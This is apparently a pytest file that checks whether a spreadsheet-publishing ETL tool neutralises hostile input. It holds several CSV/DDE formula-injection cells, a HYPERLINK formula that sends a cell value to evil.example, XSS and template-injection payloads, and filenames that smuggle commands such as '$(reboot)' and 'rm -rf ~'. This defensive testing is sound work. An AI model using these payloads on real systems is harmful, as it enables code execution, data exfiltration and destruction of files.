"""A county to which hostile names and cells came, published once: everything is shown as text, and does nothing.

The list is accepted, so that its cells go the whole way: pages, CSV, XLSX, JSON, feeds, metadata and the terminal.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from click.testing import CliRunner

from etl.cli import main
from etl.layout import PROGRAM

ESCAPE, TURN, UNSEEN = "\x1b[2J\x1b[31m", "\u202e", "\u200b"
ATTACKS = (
    '=HYPERLINK("http://evil.example/"&A1,"费")',
    "＝cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>费",
    "<img src=x onerror=alert(1)>费",
    "[费](javascript:alert(1))",
    "{{ 7*7 }}{% raw %}费",
    f"费{TURN}gnp.exe",
    f"手续{UNSEEN}费",
    "--- # ``` | 费",
    "]]><!-- &#60;b&#62; 费",
)
NAMES = (
    "<script>alert(1).xlsx",
    "$(reboot) `id` ;rm -rf ~.xlsx",
    f"a{ESCAPE}b.xlsx",
    f"决算{TURN}xslx.exe.xlsx",
    "换\n行.xlsx",
    "{{7*7}}.xlsx",
    "..．．xlsx",
    "CON.xlsx",
    "A.xlsx",
    "a.xlsx",
    "x" * 250 + ".xlsx",
    "-rf.xlsx",
)


def fee_list(items: tuple[str, ...]) -> bytes:
    """A list of fees as a finance bureau sends it, with the attacks for names."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "收费目录清单"
    sheet.append(["全国性及中央部门和单位行政事业性收费目录清单"])
    sheet.append(["部门", "项目序号", "项目名称", "资金管理方式", "政策依据"])
    for number, item in enumerate(items, start=1):
        sheet.append(["教育", str(number), "", "缴入地方国库", "财税〔2014〕77号"])
        cell = sheet.cell(sheet.max_row, 3, "")
        cell.value, cell.data_type = item, "s"
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """The county's folder, and what the terminal was told."""
    root = tmp_path_factory.mktemp("county")
    shutil.copytree(PROGRAM / "datasets" / "register", root / "datasets" / "register")
    shutil.copyfile(PROGRAM / "datasets" / "jurisdiction.yml", root / "datasets" / "jurisdiction.yml")
    lists = root / "datasets" / "inbox" / "fees"
    lists.mkdir(parents=True)
    (lists / "list.xlsx").write_bytes(fee_list(ATTACKS))
    declared = "department_code: '000'\nfiscal_year: 2025\ndocument: fee-list\nreceived_on: 2025-03-01\n"
    (lists / "submission.yml").write_text(declared, "utf-8")
    odd = root / "datasets" / "inbox" / "odd"
    odd.mkdir()
    for number, name in enumerate(NAMES):
        (odd / name).write_bytes(fee_list((f"项目{number}",)))
    outside = tmp_path_factory.mktemp("outside") / "secret-outside.xlsx"
    outside.write_bytes(fee_list(("外面的秘密收费",)))
    (odd / "link.xlsx").symlink_to(outside)
    (root / "datasets" / "inbox" / "linked").symlink_to(outside.parent)
    result = CliRunner().invoke(main, ["publish", "--root", str(root), "--jobs", "2"])
    assert result.exit_code == 0, result.output
    return root, result.output


class _Markup(HTMLParser):
    """What a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.acting: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = dict(attrs)
        if tag in ("img", "iframe", "object", "embed", "base", "form") and "evil" in str(told):
            self.acting.append(tag)
        if tag == "img" and told.get("src") == "x":
            self.acting.append("img")
        self.acting += [key for key in told if key.startswith("on")]
        self.acting += [
            value
            for key, value in attrs
            if key in ("href", "src") and value and value.lower().startswith("javascript:")
        ]
        if tag == "script" and not told.get("src") and told.get("type") != "application/ld+json":
            self.acting.append("script")


def pages(folder: Path) -> list[Path]:
    found = sorted(folder.rglob("*.html"))
    assert found
    return found


@pytest.mark.parametrize("part", ["site", "review"])
def test_no_page_acts_on_what_came_in(published: tuple[Path, str], part: str) -> None:
    root, _ = published
    shown = 0
    for page in pages(root / part):
        text = page.read_text("utf-8")
        read = _Markup()
        read.feed(text)
        own = [act for act in read.acting if act != "script" or "alert(1)" in text.partition("<script>")[2][:40]]
        assert own == [], page
        assert not {TURN, UNSEEN, "\x1b"} & set(text), page
        assert "49费" not in text, page
        shown += "alert(1)" in text
    assert shown, "the attack is on no page: nothing was tested"


def test_the_list_was_accepted(published: tuple[Path, str]) -> None:
    root, _ = published
    rows = list(csv.DictReader(io.StringIO((root / "review" / "submissions.csv").read_text("utf-8-sig"))))
    assert {row["status"] for row in rows if row["file"] == "fees/list.xlsx"} == {"accepted"}


def test_no_cell_of_a_csv_runs_in_a_spreadsheet(published: tuple[Path, str]) -> None:
    root, _ = published
    cells = 0
    for path in [*sorted((root / "site").rglob("*.csv")), *sorted((root / "review").rglob("*.csv"))]:
        data = path.read_bytes()
        if not data.startswith(b"\xef\xbb\xbf"):
            continue  # for programs, which run nothing
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            for cell in row:
                cells += 1
                first = unicodedata.normalize("NFKC", cell[:1])
                is_number = cell.lstrip("+-").replace(".", "", 1).isdigit()
                assert first not in set("=+-@\t\r") or is_number, (path, cell)
    assert cells > 100


def test_no_cell_of_a_workbook_is_a_formula(published: tuple[Path, str]) -> None:
    root, _ = published
    read = 0
    for path in sorted((root / "site").rglob("*.xlsx")):
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                read += len(row)
                assert not [cell.coordinate for cell in row if cell.data_type == "f" or cell.hyperlink], path
    assert read > 100


def test_what_programs_read_is_whole(published: tuple[Path, str]) -> None:
    root, _ = published
    for path in (root / "site").rglob("*.json"):
        json.loads(path.read_text("utf-8"))
    for path in (root / "site").rglob("*.xml"):
        ElementTree.fromstring(path.read_bytes())


def test_nothing_acts_on_the_terminal(published: tuple[Path, str]) -> None:
    _, output = published
    told = [letter for letter in output if unicodedata.category(letter) in ("Cc", "Cf") and letter not in "\n\r\t"]
    assert told == []


def test_what_is_built_are_plain_files_with_plain_names(published: tuple[Path, str]) -> None:
    root, _ = published
    folded: dict[str, str] = {}
    for path in [*(root / "site").rglob("*"), *(root / "review").rglob("*")]:
        assert not path.is_symlink(), path
        assert path.is_dir() or path.is_file(), path
        name = path.relative_to(root).as_posix()
        assert name.isascii(), name
        assert name.isprintable(), name
        assert not set(name) & set('<>:"\\|?*`$'), name
        assert folded.setdefault(name.lower(), name) == name, "two names that one system takes for the same"


def test_links_lead_nobody_outside(published: tuple[Path, str]) -> None:
    root, _ = published
    for part in ("site", "review", "datasets/archive"):
        for path in (root / part).rglob("*"):
            assert "outside" not in path.name
            if path.is_file() and path.suffix in (".html", ".csv", ".json", ".xml", ".js"):
                text = path.read_text("utf-8", "replace")
                assert "外面的秘密收费" not in text, path
    assert (root / "datasets" / "inbox" / "odd" / "link.xlsx").is_symlink()


def test_the_inbox_is_as_it_was(published: tuple[Path, str]) -> None:
    root, _ = published
    names = {path.name for path in (root / "datasets" / "inbox" / "odd").iterdir()}
    assert names == {*NAMES, "link.xlsx"}
